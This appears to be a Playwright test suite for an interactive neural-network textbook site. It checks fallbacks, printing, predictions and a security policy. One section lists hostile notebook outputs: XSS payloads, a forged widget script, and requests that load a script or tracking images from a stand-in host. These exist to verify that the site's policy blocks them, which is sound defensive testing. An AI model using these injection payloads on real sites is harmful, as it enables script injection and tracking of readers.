    page = visit("book/multiclass.html", fails={files: FAILURES["lost"]})
    place, again = page.locator("[data-model]"), page.get_by_role("button", name="Try again")
    alert = place.get_by_role("alert")
    place.scroll_into_view_if_needed()
    for failure in (*FAILURES.values(), None):
        expect(alert).to_contain_text("could not be loaded")
        expect(place.get_by_role("img").first).to_be_visible()  # the still
        expect(place.get_by_role("button")).to_have_count(1)
        page.unroute_all()
        if failure:
            page.route(files, failure)
        again.click()  # which takes the alert away at once
    press(page, "A test digit")
    assert "The network predicts 0" in heard(page)
    expect(alert).to_have_count(0)


def test_one_of_two_networks_that_does_not_come_is_told_of_on_its_side(visit):
    page = visit("book/laboratory.html")
    alert = page.get_by_role("alert")
    outputs = page.get_by_role("img", name="Output of the network on the")
    others = [(16, 2), (16, 8), (32, 2), (32, 8)]  # which the page has not asked for yet
    for failure, (units, steps) in zip(FAILURES.values(), others, strict=True):
        name = f"bce-epochs-10-batch-32-code-{units}-steps-{steps}"
        page.route(f"**/assets/networks-{name}*", failure)
        choice(page, "network on the right").select_option(name)
        left = f"bce-epochs-10-batch-32-code-{units}-steps-4"
        choice(page, "network on the left").select_option(left)
        expect(alert).to_contain_text("The network on the right could not be loaded")
        assert "right could not be loaded" in heard(page)
        expect(outputs).to_have_count(1)  # what was on the right holds no more
        page.unroute_all()
        press(page, "Try again")
        expect(outputs).to_have_count(2)
        expect(alert).to_have_count(0)


def test_copies_that_do_not_come_are_told_of_and_those_of_another_network_hidden(visit):
    page = visit("book/laboratory.html")
    page.route("**/assets/copies-*", FAILURES["sign-in"])
    choice(page, "network").select_option("bce-epochs-10-batch-64-code-16-steps-8")
    expect(page.get_by_role("alert")).to_contain_text("could not be loaded")
    copies = page.get_by_role("img", name="reconstruction of the")
    expect(copies).to_have_count(0)
    page.unroute_all()
    press(page, "Try again")
    expect(copies).to_have_count(10)


def test_a_kernel_or_server_that_never_answers_is_not_waited_for_without_end(visit):
    page = visit("book/laboratory.html")
    page.clock.install()
    page.route("**/assets/networks-bce-epochs-10*", lambda route: None)
    choice(page, "network on the right").select_option("bce-epochs-10-batch-32-code-16-steps-2")
    page.clock.fast_forward(31_000)
    expect(page.get_by_role("alert")).to_contain_text("did not come within 30 seconds")


#: What Chromium does where a reader blocks site data; and a store that is there and full.
BLOCKED = {
    "blocked": """for (const name of ["localStorage", "sessionStorage"])
      Object.defineProperty(window, name, {get() { throw new DOMException("", "SecurityError"); }})
    """,
    "full": "Storage.prototype.setItem = () => { throw new DOMException('', 'QuotaExceeded'); }",
}


@pytest.mark.parametrize("script", BLOCKED.values(), ids=BLOCKED)
def test_a_page_works_where_site_data_are_blocked(visit, script):
    page = visit("book/conclusion.html", script=script, viewport=PHONE)
    page.locator(".primary-toggle").first.click()
    page.get_by_role("link", name="Glossary").first.wait_for()
    page.keyboard.press("Escape")
    page.locator(".theme-switch-button:visible").first.click()
    page.locator(".theme-switch-button:visible").first.click()
    assert page.evaluate("document.documentElement.dataset.mode") in ("light", "dark")
    page.keyboard.press("Control+k")
    page.keyboard.type("perceptron")
    page.keyboard.press("Enter")
    page.locator("#search-results li").first.wait_for()
    assert page.wrong == []


def with_figures():
    return [name for name in PAGES if 'data-model="' in (SITE / name).read_text("utf-8")]


@pytest.mark.parametrize("missing", ["JavaScript", "widgets.js"])
@pytest.mark.parametrize("name", with_figures())
def test_a_still_picture_and_a_sentence_stand_in_for_a_figure(visit, name, missing):
    options = {"java_script_enabled": False} if missing == "JavaScript" else {}
    page = visit(name, fails={"**/_static/widgets.js*": FAILURES["lost"]}, **options)
    for place in page.locator("[data-model]").all():
        place.scroll_into_view_if_needed()
        expect(place).to_contain_text("This is a still picture")
        expect(place.locator("img, .nn-steps, table").first).to_be_visible()
        for one in place.get_by_role("img").all():
            assert one.get_attribute("alt") or one.get_attribute("aria-label")
        expect(place.locator("button, input, select, a")).to_have_count(0)


@pytest.mark.parametrize("name", ["linear", "exercises/linear"])
def test_without_scripts_no_button_is_dead_and_a_phone_has_a_menu(visit, name):
    for size in (DESK, PHONE):
        page = visit(f"book/{name}.html", java_script_enabled=False, viewport=size)
        buttons = page.locator("button:visible, [role=button]:visible, .btn:visible")
        assert [one.get_attribute("class") for one in buttons.all()] == []
        expect(page.get_by_role("link", name="Glossary").first).to_be_visible()


def test_an_exercise_is_whole_without_scripts(visit):
    page = visit("book/exercises/linear.html", java_script_enabled=False)
    expect(page.locator("[data-answer] pre").first).to_contain_text("...")
    expect(page.locator("[data-check] pre").first).to_be_visible()
    expect(page.locator("[data-words]").first).to_be_visible()
    expect(page.get_by_role("link", name="the notebook")).to_be_visible()
    expect(page.get_by_role("link", name="JupyterLite")).to_have_count(0)  # it would be dead
    for fold in page.locator("details:is(.hint, .solution)").all():
        text = fold.locator("p, pre").first
        expect(text).to_be_hidden()
        fold.locator("summary").click()
        expect(text).to_be_visible()


#: Code that is cut off, pictures that are not there, and what is folded.
ON_PAPER = """async () => {
  const all = (selector) => [...document.querySelectorAll(selector)];
  const seen = all("article img").filter((one) => one.checkVisibility());
  await Promise.all(seen.map((one) => { one.loading = "eager"; return one.decode(); }));
  return {
    cut: all("article :is(pre, .nn-drawing)")
      .filter((one) => one.scrollWidth > one.clientWidth + 1).length,
    folded: all("details:not([open])").length,
    gaps: all("[data-model]").filter((one) => !one.querySelector("img, canvas, li")).length,
    fading: all("article *").filter((one) => getComputedStyle(one).animationName !== "none").length,
    dead: all("[data-model] :is(button, input)").filter((one) => one.checkVisibility()).length,
    ink: getComputedStyle(document.querySelector("article p:not([class])"))
      .color.match(/\\d+/g).map(Number),
  };
}"""


@pytest.mark.parametrize(
    "name", [f"book/{one}.html" for one in ("sequential", "laboratory", "fast", "exercises/linear")]
)
def test_a_page_is_printed_whole_and_dark_on_white(visit, name):
    page = visit(name, color_scheme="dark", look=False)
    page.emulate_media(media="print")
    page.set_viewport_size({"width": 700, "height": 1000})  # about A4
    expect(page.locator("html")).to_have_attribute("data-theme", "light")
    found = page.evaluate(ON_PAPER)
    assert max(found.pop("ink")) < 100
    assert found == {"cut": 0, "folded": 0, "fading": 0, "gaps": 0, "dead": 0}
    page.emulate_media(media="screen")
    expect(page.locator("html")).to_have_attribute("data-theme", "dark")
    assert page.locator("details[open]").count() == 0
    page.evaluate(
        """addEventListener("beforeprint", () =>
          (window.printed = document.documentElement.dataset.theme))"""
    )
    page.pdf(page_ranges="1")
    assert page.evaluate("printed") == "light"


def test_the_table_of_exercises_reads_well_from_a_file(visit):
    page = visit("book/exercises.html", start=SITE.as_uri())
    cells = page.locator("article table td:last-child").all_inner_texts()
    assert len(cells) == len([*ROOT.glob("book/exercises/*.ipynb")])
    assert all(re.fullmatch(r"download \w+\.zip", cell.strip()) for cell in cells)


# --- What pages may do, and outputs may not ------------------------------------------------------


def test_the_address_of_the_book_has_an_icon_and_leads_to_its_first_page(chromium, address):
    text = (SITE / "index.html").read_text(encoding="utf-8")
    (icon,) = re.findall(r'<link rel="icon" href="([^"]+)"', text)  # else a browser asks for one
    assert (SITE / icon).is_file()
    page = chromium.new_page()
    page.goto(f"{address}/index.html")
    expect(page).to_have_url(f"{address}/book/introduction.html")
    page.close()


@pytest.mark.parametrize("name", [*PAGES, "index.html"])
def test_a_page_carries_the_policy_before_any_script(name):
    text = (SITE / name).read_text(encoding="utf-8")
    (policy,) = re.findall('<meta http-equiv="Content-Security-Policy" content="([^"]*)"', text)
    rules = dict(rule.split(" ", 1) for rule in policy.split("; "))
    assert set(rules.values()) == {"'self'", "'none'"}
    assert rules["default-src"] == rules["script-src"] == rules["form-action"] == "'self'"
    assert rules["base-uri"] == rules["object-src"] == rules["frame-src"] == "'none'"
    assert text.index("Content-Security-Policy") < text.find("<script") % len(text)
    assert '"_esm"' not in text, "the code of a widget belongs in a file of its own"


def test_buttons_do_what_they_say(visit):
    page = visit("book/linear.html")
    page.evaluate("window.print = () => (window.printed = true)")
    page.get_by_role("button", name="Download this page").click()
    page.locator(".btn-download-pdf-button").click()
    assert page.evaluate("window.printed")
    page.locator(".btn-fullscreen-button").click()
    page.wait_for_function("() => document.fullscreenElement")


def test_searching_begins_in_its_field_and_finds(visit):
    page = visit("search.html")
    page.keyboard.type("perceptron")
    page.keyboard.press("Enter")
    page.locator("#search-results li").first.wait_for()
    assert page.wrong == []


def test_a_look_that_was_chosen_is_there_before_the_page_is_drawn(visit):
    page = visit("book/conclusion.html", color_scheme="light")
    page.evaluate("localStorage.mode = localStorage.theme = 'dark'")
    page.route("**/pydata-sphinx-theme.js*", lambda route: route.abort())
    page.reload()
    assert page.evaluate("document.documentElement.dataset.theme") == "dark"


AWAY = "https://elsewhere.example"
FORGED = {"_anywidget_id": "forged", "_css": "", "_min_heights": [100, 100], "_assets": []}
FORGED["_esm"] = "window.pwned = 1; export default { render() {} };"
STATE = "application/vnd.jupyter.widget-state+json"
VIEW = "application/vnd.jupyter.widget-view+json"


def data(kind, content):
    return f'<script type="application/vnd.{kind}+json">{json.dumps(content)}</script>'


#: What a hostile output could hold: by the script or the visit elsewhere that it is after. It sets
#: `window.pwned`, or asks AWAY for something; what must be clicked for it is a "bait".
HTML = {
    "script": "<script>window.pwned = 1</script>",
    "script-file": f'<script src="{AWAY}/script.js"></script>',
    "handler": '<img src="none" onerror="window.pwned = 1">',
    "link": '<a class="bait" href="javascript:void (window.pwned = 1)">bait</a>',
    "frame": '<iframe srcdoc="<script>parent.pwned = 1</script>"></iframe>',
    "object": f'<object data="{AWAY}/object.html"></object>',
    "drawing": '<svg onload="window.pwned = 1"></svg>',
    "base": f'<base href="{AWAY}/"><img src="picture.gif">',
    "form": f'<form action="{AWAY}/"><button class="bait">bait</button></form>',
    "style": f"<style>article {{ background: url({AWAY}/spy.png) }}</style>",
    "style-attribute": f'<p style="background: url({AWAY}/spy.png)">bait</p>',
    "picture": f'<img src="{AWAY}/spy.png">',
    "refresh": f'<meta http-equiv="refresh" content="0; url={AWAY}/">',
    "state": data("jupyter.widget-state", {"state": {"widget-1": {"state": FORGED}}}),
    "files": data("nnlib.files", {"nnlib.widgets.stepper.Stepper": "../../elsewhere.js"}),
    "folder": '<img hidden loading="lazy" name="currentScript" src="/elsewhere/widgets.js">',
}
#: Closed at the root, so that not even a page without a policy runs these.
HARMLESS = {"state", "files", "folder", "latex", "markdown-link", "svg", "metadata"}
#: The build warns of the HTML within these; of the others, it says nothing.
TOLD_OF = ("markdown", "markdown-inline")
#: No policy stops these: only that HTML in outputs is not passed on.
BEYOND_POLICY = {"refresh"}
OUTPUTS = {name: {"text/html": text, "text/plain": "as text"} for name, text in HTML.items()} | {
    "javascript": {"application/javascript": "window.pwned = 1", "text/plain": "as text"},
    "svg": {"image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg' onload='parent.pwned = 1'/>"},
    "latex": {"text/latex": r"$\text{<img src=x onerror=window.pwned=1>}$"},
    "markdown": {"text/markdown": f"before\n\n{HTML['handler']}\n\nafter"},
    "markdown-inline": {"text/markdown": f"before {HTML['handler']} after"},
    "markdown-link": {"text/markdown": "[bait](javascript:void(window.pwned=1))"},
    "markdown-directive": {"text/markdown": f"```{{raw}} html\n{HTML['handler']}\n```"},
    "metadata": {"text/plain": "as text"},
}


def hostile(*names):
    """Return a notebook with a widget of ours and hostile outputs."""
    notebook, new = nbformat.read(ROOT / "book" / "sequential.ipynb", 4), nbformat.v4
    if "metadata" in names:  # with our name and the code of somebody else
        notebook.metadata.widgets[STATE].state["widget-1"].state._esm = FORGED["_esm"]
    shown = [*map(OUTPUTS.get, names), {VIEW: {"model_id": "widget-1"}}]
    outputs = [new.new_output("display_data", one) for one in shown]
    notebook.cells = [
        new.new_markdown_cell(f"# {' and '.join(names)}"),
        new.new_code_cell("...", outputs=outputs),
    ]
    return notebook


def build(folder, config, notebooks):
    """Build a book of notebooks as this one is built; return its site and what was said."""
    (folder / "book").mkdir()
    for name in ("_ext", "_static", "_templates", "references.bib"):
        (folder / "book" / name).symlink_to(ROOT / "book" / name)
    names = [f"book/{name}" for name in notebooks]
    toc = {"format": "jb-book", "root": names[0], "chapters": [{"file": one} for one in names[1:]]}
    for name, content in (("_config.yml", config), ("_toc.yml", toc)):
        (folder / name).write_text(yaml.safe_dump(content))
    for name, notebook in notebooks.items():
        nbformat.write(notebook, folder / "book" / f"{name}.ipynb")
    command = [Path(sys.executable).parent / "jupyter-book", "build", folder, "-q", "-W"]
    done = subprocess.run([*command, "--keep-going"], capture_output=True, text=True)
    site = folder / "_build" / "html"
    assert all((site / f"{name}.html").is_file() for name in names), done.stderr
    return site, done


@pytest.fixture(scope="module")
def passed_on(tmp_path_factory):
    """The hostile notebooks, built without what keeps HTML from outputs out of pages."""
    config = yaml.safe_load((ROOT / "_config.yml").read_text(encoding="utf-8"))
    for name in ("refuse_html_outputs", "diagrams"):
        del config["sphinx"]["local_extensions"][name]
    options = config["sphinx"]["config"]
    del options["nb_mime_priority_overrides"]
    options["nb_render_markdown_format"] = "myst"
    notebooks = {name: hostile(name) for name in OUTPUTS}
    return build(tmp_path_factory.mktemp("passed_on"), config, notebooks)


@pytest.fixture(scope="module")
def refused(tmp_path_factory):
    """The hostile notebooks, built as the book is; and one with a widget of somebody else."""
    config = yaml.safe_load((ROOT / "_config.yml").read_text(encoding="utf-8"))
    notebooks = {
        "told-of": hostile(*TOLD_OF),
        "left-out": hostile(*(name for name in OUTPUTS if name not in TOLD_OF)),
        "foreign": hostile("metadata"),
    }
    stored = notebooks["foreign"].metadata.widgets[STATE]["state"]
    stored["widget-1"]["state"]["_anywidget_id"] = "forged.Widget"
    return build(tmp_path_factory.mktemp("refused"), config, notebooks)


#: A reader who clicks on all that a page offers, and looks at its widget.
VISITED = """addEventListener("load", () => {
  document.querySelectorAll(".bait").forEach((bait) => bait.click());
  document.querySelector("[data-model]")?.scrollIntoView();
})"""


def reached(chromium, start, names, policy=True):
    """Open hostile pages; return those whose outputs reached a script or somewhere else."""
    context, pages, requests = chromium.new_context(viewport=DESK, bypass_csp=not policy), {}, []
    context.add_init_script(VISITED)
    context.on("request", lambda request: "elsewhere" in request.url and requests.append(request))
    for name in names:
        pages[name] = context.new_page()
        pages[name].goto(f"{start}/book/{name}.html")
    pages[name].wait_for_timeout(1000)
    # A request that a policy stops fails for "csp".
    away = [request.frame.page for request in requests if request.failure != "csp"]
    pwned = [page for page in pages.values() if page not in away and page.evaluate("window.pwned")]
    context.close()
    return {name for name, page in pages.items() if page in away + pwned}


class TestPassedOn:
    """One worker builds that book, and once (tests/conftest.py)."""

    def test_hostile_outputs_would_reach_a_script_or_others(self, chromium, passed_on):
        site, done = passed_on
        assert done.returncode == 0, done.stderr
        with served(folder=site) as address:
            found = reached(chromium, address, OUTPUTS, policy=False)
        assert found == OUTPUTS.keys() - HARMLESS

    def test_the_policy_stops_hostile_outputs(self, chromium, passed_on):
        site, _ = passed_on
        with served(folder=site) as address:
            assert reached(chromium, address, OUTPUTS) == BEYOND_POLICY

    def test_the_policy_stops_them_in_a_file(self, chromium, passed_on):
        site, _ = passed_on
        assert reached(chromium, site.as_uri(), OUTPUTS) == BEYOND_POLICY


class TestRefused:
    """One worker builds this book once, too."""

    def test_hostile_outputs_do_not_get_into_a_page(self, chromium, refused):
        site, _ = refused
        with served(folder=site) as address:
            names = ["told-of", "left-out"]
            assert reached(chromium, address, names, policy=False) == set()

    def test_html_of_an_output_fails_the_build(self, refused):
        _, done = refused
        assert done.returncode != 0
        told = re.findall(r"book/([\w-]+)\.ipynb.*WARNING: An output holds HTML", done.stderr)
        assert told == ["told-of"] * len(TOLD_OF)
        assert "foreign" in done.stderr
        assert "a widget of the kind 'forged.Widget', but" in done.stderr


# --- Predictions ---------------------------------------------------------------------------------

PREDICTED = "book/latent_dimension.html"
COVERS = "details.covered"


def prediction(page, name):
    return page.locator(f"[data-prediction={name}]")


def answer(box, text):
    return box.locator("summary", has_text=text)


def covers(page):
    return page.locator(COVERS).evaluate_all("covers => covers.map((one) => one.open)")


def test_an_answer_uncovers_its_result_alone_by_keyboard_too(visit):
    page = visit(PREDICTED)
    assert covers(page) == [False, False, False]
    box = prediction(page, "predict-three")
    answer(box, "in one or two of them").focus()
    page.keyboard.press("Enter")
    assert covers(page) == [False, True, False]
    expect(box.get_by_role("status").first).to_have_text("The result is shown below.")
    expect(box.locator(".chosen")).to_contain_text("in one or two of them (Your answer)")
    answer(box, "in none of them").click()  # read another: the choice stays
    expect(box.locator(".chosen")).to_have_count(1)
    assert page.wrong == []


def test_a_number_is_compared_with_the_true_one(visit):
    page = visit(PREDICTED)
    box = prediction(page, "predict-r6")
    slide(box, "Your number", 1.3)
    press(box, "Compare")
    truth = box.locator("details strong").inner_text()
    expect(box.get_by_role("status").first).to_have_text(f"You said 1.3. It is {truth}.")
    typed = prediction(page, "predict-dimension")
    press(typed, "Compare")  # without a number, nothing happens
    assert covers(page) == [True, False, False]
    typed.get_by_role("spinbutton", name="Your number").fill("30")
    page.keyboard.press("Enter")
    assert covers(page) == [True, False, True]
    assert page.wrong == []


def test_predictions_have_borders_without_scripts(visit):
    page = visit(PREDICTED, java_script_enabled=False)
    for part in (".predict", "details.answer", "details.covered > summary"):
        assert (
            page.locator(part).first.evaluate("box => getComputedStyle(box).borderLeftWidth")
            != "0px"
        )


def test_a_result_is_shown_on_demand_without_scripts_and_on_paper(visit):
    page = visit(PREDICTED, java_script_enabled=False)
    expect(page.get_by_role("button", name="Compare")).to_have_count(0)
    result = page.locator(COVERS).first.locator("img").first
    expect(result).to_be_hidden()
    page.get_by_text("Show what happened").first.click()
    expect(result).to_be_visible()
    page.emulate_media(media="print")
    for picture in page.locator(f"{COVERS} img").all():
        expect(picture).to_be_visible()


def test_predictions_are_remembered_only_if_allowed_and_forgotten_on_request(visit):
    page = visit(PREDICTED)
    stored = "() => localStorage.getItem('nnlib-predictions')"
    box, tick = prediction(page, "predict-three"), page.get_by_label("Remember my predictions")
    answer(box, "in one or two of them").click()
    assert page.evaluate(stored) is None
    page.reload()
    assert covers(page) == [False, False, False]
    right = box.locator("summary").all_inner_texts().index("in none of them")
    answer(box, "in none of them").click()
    tick.check()
    page.reload()
    expect(tick).to_be_checked()
    expect(box.locator(".chosen")).to_contain_text("in none of them")
    assert covers(page) == [False, True, False]
    assert json.loads(page.evaluate(stored)) == {
        "latent_dimension.html#predict-three": {"choice": right, "right": True}
    }
    tick.uncheck()
    assert page.evaluate(stored) is None
    page.reload()
    assert covers(page) == [False, False, False]
    page.evaluate("localStorage.setItem('nnlib-predictions', '[}')")
    page.reload()
    assert covers(page) == [False, False, False]
    assert page.wrong == []


def test_an_address_opens_a_cover_and_a_link_in_the_page_leads_to_its_prediction(visit):
    page = visit(f"{PREDICTED}#fig-latent-digits")
    assert covers(page) == [False, True, False]
    box, figure = prediction(page, "predict-r6"), page.locator("#fig-latent-ten")
    link = page.locator("a.reference[href='#fig-latent-ten']").first
    link.click()
    expect(box).to_be_in_viewport()
    assert covers(page) == [False, True, False]
    press(box, "Compare")
    link.click()
    expect(figure).to_be_in_viewport()
    assert covers(page) == [True, True, False]
    assert page.wrong == []


GROUND = "getComputedStyle(document.body).backgroundColor"
WIDGETS_LOST = {"**/_static/widgets.js*": FAILURES["lost"]}


@pytest.mark.parametrize(
    ("name", "place", "fails"),
    [
        (PREDICTED, "#fig-latent-ratios img", None),
        ("book/laboratory.html", "canvas.nn-digit", None),
        ("book/laboratory.html", "canvas.nn-plot", None),
        ("book/laboratory.html", ".nn-still img.nn-digit", WIDGETS_LOST),
    ],
)
def test_the_white_of_a_figure_is_the_page(visit, name, place, fails):
    page, grounds = visit(name, fails=fails, color_scheme="dark"), set()
    figure = page.locator(place).first
    figure.scroll_into_view_if_needed()
    if fails or name == PREDICTED:
        expect(figure).to_have_js_property("complete", value=True)
    for scheme in ("dark", "light"):
        page.emulate_media(color_scheme=scheme)
        page.wait_for_function(IS_DARK, arg=scheme == "dark")
        shown = Image.open(io.BytesIO(figure.screenshot())).convert("RGB")
        ground = tuple(map(int, re.findall(r"\d+", page.evaluate(GROUND))[:3]))
        assert shown.getpixel((4, 4)) == ground
        grounds.add(ground)
    assert len(grounds) == 2


def test_figures_stay_dark_on_white_in_forced_colors(visit):
    page = visit("book/laboratory.html", color_scheme="dark", forced_colors="active")
    shown = Image.open(io.BytesIO(page.locator("canvas.nn-plot").screenshot())).convert("RGB")
    assert shown.getpixel((4, 4)) == (255, 255, 255)
